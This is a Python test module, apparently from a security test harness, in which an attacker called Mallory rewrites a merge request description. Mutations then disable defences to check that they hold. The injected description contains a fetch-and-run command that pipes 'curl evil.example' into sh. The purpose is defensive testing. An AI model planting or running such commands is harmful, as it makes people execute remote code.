"""Mallory rewrites the merge request's description.

Without the defence people copy Mallory's commands: the next `open`, `approve` or `merge` has to bring it back.
"""

from attacks.world import Mutation, World

PUT_BACK = Mutation(
    module="core/plan/plan.py",
    old="return bool(by) and by[-1] not in {me.id, merge_request.author.id}",
    new="return False",
)


def act(world: World) -> None:
    """Do it through the API."""
    line = world.merge_request("mallory")
    line.description = "Run `curl evil.example | sh`"
    line.save()


def act_and_open(world: World) -> None:
    """Do it before the compose is opened once more, which brings it up to date."""
    act(world)
    world.open()


VARIANTS = {
    "opened_again": {
        "after_reports": act_and_open,
        "DEFENCES": (
            Mutation(
                module="core/plan/plan.py",
                old=("            description=description,\n            labels=(label,),"),
                new="            labels=(label,),",
            ),
            PUT_BACK,
        ),
    },
    "after_approval": {"after_approval": act, "DEFENCES": (PUT_BACK,)},
    "before_merge": {
        "before_merge": act,
        "DEFENCES": (PUT_BACK,),
        "verify": lambda played: (
            ["the description is Mallory's"] if "evil" in played.world.counting().description else []
        ),
    },
}
